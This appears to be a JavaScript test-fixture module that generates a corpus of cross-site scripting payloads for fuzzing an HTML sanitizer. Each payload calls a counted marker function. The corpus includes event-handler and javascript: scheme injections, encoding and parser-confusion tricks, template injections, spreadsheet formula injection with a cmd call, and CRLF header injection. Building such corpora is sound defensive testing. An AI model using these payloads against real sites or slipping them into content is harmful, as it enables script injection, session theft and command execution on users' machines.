// The corpus: distinct hostile words. Whatever runs calls `pwned`, which the browser counts.

// Ways to say the call; the first is the plain one.
const CALLS = ['pwned()', 'top.pwned()', '(0,eval)("pwned()")', '[1].map(pwned)', 'setTimeout(pwned)', 'self["pwned"]()', 'Reflect.apply(pwned,0,[])',
  'import("data:text/javascript,pwned()")', 'new Function("pwned()")()', 'pwned``', 'window?.pwned?.()', 'throw onerror=pwned,1']

// Places out of which to break, ways to make something of it, and tricks with letters. X is a call.
const FRAMES = [
  '<script>X</script>', '<img src=x onerror=X>', '"><img src=x onerror=X>', "'><svg onload=X>", '</textarea><script>X</script>', '</title><script>X</script>',
  '<svg><script>X</script></svg>', '" autofocus onfocus=X x="', "' onmouseover=X '", '<details open ontoggle=X>', '<a href="javascript:X">a</a>',
  '<iframe srcdoc="<script>parent.X</script>">', '{{constructor.constructor("X")()}}', '${X}', '<math><mtext></p><img src=x onerror=X>', '--><script>X</script>',
  ']]><script>X</script>', '<body onload=X>', '<input autofocus onfocus=X>', '<video><source onerror=X></video>',
  // Schemes, as they stand and disguised.
  'javascript:X', 'JaVaScRiPt:X', 'java\tscript:X', 'javascript&colon;X', '&#106;avascript:X', 'data:text/html,<script>X</script>', 'vbscript:X', '//X', 'javascript://%0aX',
  // Templates of other languages.
  '{{X}}', '{%X%}', '<%=X%>', '#{X}', '[[X]]', '*{X}', '@(X)', '{{=X}}', '<!--#exec cmd="X"-->', '{@html X}',
  // Scripts and JSON within pages.
  '</script><script>X</script>', '\\u003cscript>X\\u003c/script>', '";X;//', "';X;//", '`;X;//', '\\";X;//', '\\\';X;//', '<!--<script>X', '</script/x><svg/onload=X>', '"}]</script><script>X</script>',
  // Styles.
  '<style>*{background:url("javascript:X")}</style>', '</style><script>X</script>', '<link rel=stylesheet href="javascript:X">', '"style="x:expression(X)',
  '<style>@import"javascript:X"</style>', '<p style=animation-name:x onanimationstart=X>', '<xss style="behavior:url(#X)">',
  // SVG and MathML, and where their names change the parser.
  '<svg/onload=X>', '<svg><animate onbegin=X attributeName=x dur=1s>', '<svg><a xlink:href="javascript:X"><text y=9>a', '<svg><set onbegin=X>', '<math href="javascript:X">a</math>',
  '<math><mi xlink:href="data:x,X">', '<svg><foreignObject><img src=x onerror=X>', '<svg><style><img src=x onerror=X></style>', '<math><annotation-xml encoding="text/html"><img src=x onerror=X>',
  '<svg><use href="data:image/svg+xml,<svg onload=X>">', '<svg></p><style><a id="</style><img src=x onerror=X>">',
  // Elements and handlers that are seldom thought of.
  '<marquee onstart=X>', '<audio src=x onerror=X>', '<object data="javascript:X">', '<embed src="javascript:X">', '<form action="javascript:X"><button>', '<button formaction="javascript:X">b',
  '<select autofocus onfocus=X>', '<textarea autofocus onfocus=X>', '<keygen autofocus onfocus=X>', '<isindex action=javascript:X type=image>', '<meta http-equiv=refresh content="0;javascript:X">',
  '<base href="javascript:X//">', '<table background="javascript:X">', '<dialog open onclose=X>', '<p contenteditable onbeforeinput=X>a', '<p onpointerenter=X>a', '<p popover onbeforetoggle=X>',
  '<template><script>X</script></template>', '<noscript><p title="</noscript><img src=x onerror=X>">', '<iframe src="javascript:X">', '<frameset onload=X>', '<img srcset=x onerror=X>', '<picture><img src onerror=X>',
  '<link rel=preload href=x onerror=X>', '<body onhashchange=X>', '<div hx-get="/" hx-on:click="X">', '<div hx-on::load="X">', '<div data-hx-trigger="load[X]" data-hx-get="/">',
  // Letters, encodings, and what is cut off or left open.
  '<scr<script>ipt>X</script>', '<ScRiPt>X</sCrIpT>', '<script\n>X</script\n>', '<script/x>X</script>', '<img/src=x/onerror=X>', '<img src=x onerror\u00a0=X>', '\ufeff<script>X</script>', '\u202e<script>X</script>',
  '\uff1cscript\uff1eX\uff1c/script\uff1e', '&lt;script&gt;X&lt;/script&gt;', '&#60;script&#62;X&#60;/script&#62;', '%3Cscript%3EX%3C/script%3E', '%253Cscript%253EX', '\\x3cscript\\x3eX', '+ADw-script+AD4-X',
  '<img src=x onerror=X', '<script>X', '<<script>X//<</script>', '<img """><script>X</script>">', '<\u200bscript>X</script>', '\u{1f600}<script>X</script>', '<a\u2028href="javascript:X">a', '<İmg src=x onerror=X>',
  '"><a href=x onclick=X>\u0301a', '&#x3c;img src=x onerror=X&#x3e;', '&NewLine;javascript&Tab;:X', '\u0000<script>X</script>',
  // What spreadsheets and headers make of words.
  '=HYPERLINK("javascript:X")', '@SUM(1)*X', '+X', '-X', '\t=X', '=cmd|"/c X"!A1', '%0d%0aSet-Cookie: x=X', 'x\r\nX-Evil: X', '[a](javascript:X)', '![a](x"onerror="X)', '<javascript:X>', '[a]: data:text/html,<script>X</script>',
]

/** So many distinct payloads: every frame before any frame comes with a second call. */
export function corpus(count) {
  const made = new Set()
  for (let round = 0; made.size < count; round++) {
    for (const [i, frame] of FRAMES.entries()) {
      if (made.size < count) made.add(frame.replaceAll('X', CALLS[(i + round) % CALLS.length]))
    }
    if (round > CALLS.length) throw new Error(`there are only ${made.size} distinct payloads`)
  }
  return [...made]
}

/** A sample of every family when fewer are wanted than there are frames. */
export function spread(count) {
  const all = corpus(Math.max(count, FRAMES.length))
  return Array.from({ length: count }, (_, i) => all[Math.floor(i * all.length / count)])
}
